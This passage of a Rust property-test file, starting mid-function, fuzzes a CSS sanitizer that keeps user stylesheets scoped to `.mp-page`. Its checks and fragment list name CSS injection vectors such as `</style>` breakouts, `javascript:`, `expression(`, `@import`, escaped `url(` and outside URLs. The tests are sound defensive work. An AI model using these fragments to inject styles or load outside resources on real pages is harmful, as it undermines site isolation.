            '\\' if is_quoted => is_escaped = true,
            '"' => is_quoted = !is_quoted,
            _ if is_quoted => {}
            '{' => {
                depth += 1;
                if depth == 1 {
                    body_at = at + 1;
                }
            }
            '}' => {
                depth = depth.checked_sub(1).unwrap();
                if depth == 0 {
                    found.push((&css[head_at..body_at - 1], &css[body_at..at]));
                    head_at = at + 1;
                }
            }
            _ => {}
        }
    }
    assert!(!is_quoted && depth == 0 && head_at == css.len(), "not whole: {css}");
    found
}

/// Without what stands in quotes.
fn unquoted(css: &str) -> String {
    let (mut out, mut is_quoted, mut is_escaped) = (String::new(), false, false);
    for c in css.chars() {
        match c {
            _ if is_escaped => is_escaped = false,
            '\\' if is_quoted => is_escaped = true,
            '"' => is_quoted = !is_quoted,
            c if !is_quoted => out.push(c),
            _ => {}
        }
    }
    out
}

/// Every selector is under `.mp-page` and names nothing but classes of the program;
/// nothing that is loaded is anything but a picture of the bundle.
fn check_page(css: &str) {
    assert!(cssparser::Parser::new(css).expect_no_error_token().is_ok(), "cannot be read again: {css}");
    let plain = unquoted(css);
    for word in ["!", "\\", "</", "/*", "@import", "expression(", "javascript:", "src(", "attr("] {
        assert!(!plain.contains(word), "`{word}` in {css}");
    }
    for word in ["position:fixed", "position:sticky", "--mp-"] {
        for before in ['{', ';'] {
            assert!(!plain.contains(&format!("{before}{word}")), "`{word}` in {css}");
        }
    }
    assert_eq!(plain.matches("url(").count(), css.matches("url(\"/x/a.svg\")").count(), "{css}");
    for (at, _) in plain.match_indices("--mp-") {
        assert!(plain[..at].ends_with("var("), "names the host's property without reading it: {css}");
    }
    for (head, body) in blocks(css) {
        if head.starts_with("@media ") {
            check_page(body);
        } else if let Some(name) = head.strip_prefix("@keyframes p-") {
            assert!(name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(&byte)), "{css}");
            for (moments, _) in blocks(body) {
                let is_one = |moment: &str| matches!(moment, "from" | "to") || moment.ends_with('%');
                assert!(moments.split(',').all(is_one), "{css}");
            }
        } else {
            check_selectors(head);
            assert!(!unquoted(body).contains(['{', '}', '@', '&']), "{css}");
        }
    }
}

fn check_selectors(head: &str) {
    let mut depth = 0_i32;
    let is_between = |c: char| {
        depth += i32::from(c == '(') - i32::from(c == ')');
        c == ',' && depth == 0
    };
    for selector in head.split(is_between) {
        let rest = selector.strip_prefix(".mp-page ").unwrap_or_else(|| panic!("not under the page: {selector}"));
        for (at, _) in rest.match_indices('.') {
            assert!(rest[at..].starts_with(".p-") && !rest[at..].starts_with(".p-mp-"), "{selector}");
        }
        assert!(!rest.contains(['#', '[', '*', '&', '@', '"', '|', '\\', '{']), "{selector}");
        // Each part names a class.
        let parts = rest.split(['>', '+', '~', ' ']).filter(|part| !part.is_empty());
        let mut inside = 0_i32;
        for part in parts {
            assert!(inside > 0 || part.contains(".p-"), "{selector}");
            inside += part.matches('(').count() as i32 - part.matches(')').count() as i32;
        }
    }
}

/// Bits of good and bad sheets.
const BITS: &[&str] = &[
    ".a",
    ".b",
    ".mp-page",
    ".mp-bar",
    ".x-1",
    "body",
    "*",
    "#id",
    "[a]",
    ":root",
    ":hover",
    ":not(",
    ":is(.a,",
    "::before",
    "&",
    ">",
    "+",
    "~",
    ",",
    " ",
    "\n",
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    ":",
    ";",
    "color:red",
    "color",
    "position:fixed",
    "position:absolute",
    "--x:",
    "--mp-ink:",
    "var(--x)",
    "var(--mp-ink)",
    "width:20rpx",
    "20rpx",
    "-1.5rpx",
    "calc(",
    "1px",
    "50%",
    "url(",
    "url(\"asset:a.svg\")",
    "url(http://x)",
    "background:",
    "content:",
    "\"a\"",
    "\"</style>\"",
    "'",
    "\"",
    "\\",
    "\\75rl(",
    "/*",
    "*/",
    "<!--",
    "-->",
    "@media",
    "@media (min-width:1px){",
    "(prefers-color-scheme:dark)",
    "@keyframes k{",
    "from{",
    "to{top:0}",
    "animation:k",
    "@import",
    "@layer",
    "!important",
    "expression(",
    "attr(",
    "image-set(",
    "é",
    "\u{202e}",
    "\0",
    "1e999",
    "#fff",
    "#",
    "@",
    "!",
    "|",
    "=",
    "<",
    "..",
    ".a{",
    ".a{top:0}",
    ".a{.b{top:0}}",
    "&:hover{top:0}",
    "%",
    "$",
];

const VALUES: &[&str] = &[
    "color:red",
    "width:calc(100% - 20rpx)",
    "--own:1px solid",
    "color:var(--own,var(--mp-ink))",
    "position:relative",
    "background:url(\"asset:a.svg\") 0 0/cover",
    "content:\"}{</style>!\"",
    "transition:--own 1s",
    "margin:0 auto -1.5rpx",
    "animation:k 1s",
    "color:light-dark(#fff,#000)",
    "grid-template-columns:repeat(3,1fr)",
];

fn class() -> impl Strategy<Value = String> {
    "[a-l][a-z0-9-]{0,6}".prop_map(|name| format!(".{name}"))
}

/// One selector that is allowed.
fn selector() -> impl Strategy<Value = String> {
    let state = prop::sample::select(vec!["", ":hover", ".b", ":nth-child(2n + 1)", ":not( .c )", ":first-child"]);
    let joint = prop::sample::select(vec![" ", ">", " + ", "~", "/* */ "]);
    prop::collection::vec((class(), state, joint), 1..3).prop_map(|parts| {
        let mut text = String::new();
        for (position, (class, state, joint)) in parts.iter().enumerate() {
            if position > 0 {
                text.push_str(joint);
            }
            text.push_str(class);
            text.push_str(state);
        }
        text
    })
}

fn selectors() -> impl Strategy<Value = String> {
    prop::collection::vec(selector(), 1..3).prop_map(|all| all.join(" , "))
}

/// One rule that is allowed, with others in it.
fn rule() -> impl Strategy<Value = String> {
    let values = || prop::collection::vec(prop::sample::select(VALUES.to_vec()), 0..3).prop_map(|all| all.join(" ; "));
    let leaf = (selectors(), values()).prop_map(|(selectors, values)| format!("{selectors} {{ {values} }}"));
    leaf.prop_recursive(2, 12, 3, move |inner| {
        let inside = prop_oneof![
            inner.clone(),
            inner.clone().prop_map(|rule| format!("& {rule}")),
            inner.clone().prop_map(|rule| format!("> {rule}")),
            inner.prop_map(|rule| format!("@media (prefers-color-scheme:dark) and (width > 10px) {{ {rule} }}")),
        ];
        (selectors(), values(), prop::collection::vec(inside, 0..3), values()).prop_map(
            |(selectors, first, rules, last)| format!("{selectors} {{ {first}; {} {last} }}", rules.join(" ")),
        )
    })
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(2_000) })]

    /// Any text at all: no panic, and what is accepted stays on the page.
    #[test]
    fn any_text_is_refused_or_stays_on_the_page(text in any::<String>()) {
        if let Ok(style) = Style::parse(&text) {
            check_page(&style.css(ColorScheme::Auto, |path| (path == "a.svg").then_some("/x/a.svg")));
        }
    }

    /// Bits of sheets in any order.
    #[test]
    fn bits_of_sheets_are_refused_or_stay_on_the_page(bits in prop::collection::vec(prop::sample::select(BITS.to_vec()), 0..40)) {
        for text in [bits.concat(), format!(".a{{{}}}", bits.concat()), format!(".a{{color:{}}}", bits.concat())] {
            if let Ok(style) = Style::parse(&text) {
                prop_assert_eq!(style.source(), &text);
                check_page(&style.css(ColorScheme::Dark, |path| (path == "a.svg").then_some("/x/a.svg")));
            }
        }
    }

    /// A good sheet with a hole or a bit too many in it.
    #[test]
    fn a_damaged_sheet_is_refused_or_stays_on_the_page(
        rules in prop::collection::vec(rule(), 1..3),
        at in any::<prop::sample::Index>(),
        length in 0_usize..4,
        bit in prop::sample::select(BITS.to_vec()),
    ) {
        let text = format!("@keyframes k {{ to {{ top: 0 }} }} {}", rules.join("\n"));
        let chars: Vec<char> = text.chars().collect();
        let at = at.index(chars.len());
        let damaged: String = chars[..at].iter().copied().chain(bit.chars()).chain(chars[at..].iter().copied().skip(length)).collect();
        if let Ok(style) = Style::parse(&damaged) {
            check_page(&style.css(ColorScheme::Light, |path| (path == "a.svg").then_some("/x/a.svg")));
        }
    }

    /// A good sheet is accepted, and all of it arrives.
    #[test]
    fn a_good_sheet_is_accepted(rules in prop::collection::vec(rule(), 0..4)) {
        let text = format!("@keyframes k {{ to {{ top: 0 }} }} {}", rules.join("\n"));
        let style = Style::parse(&text);
        prop_assert!(style.is_ok(), "{style:?}\n{text}");
        let written = css(&text);
        check_page(&written);
        prop_assert_eq!(written.matches("animation:p-k 1s").count() == 0, text.matches("animation:k 1s").count() == 0);
    }
}
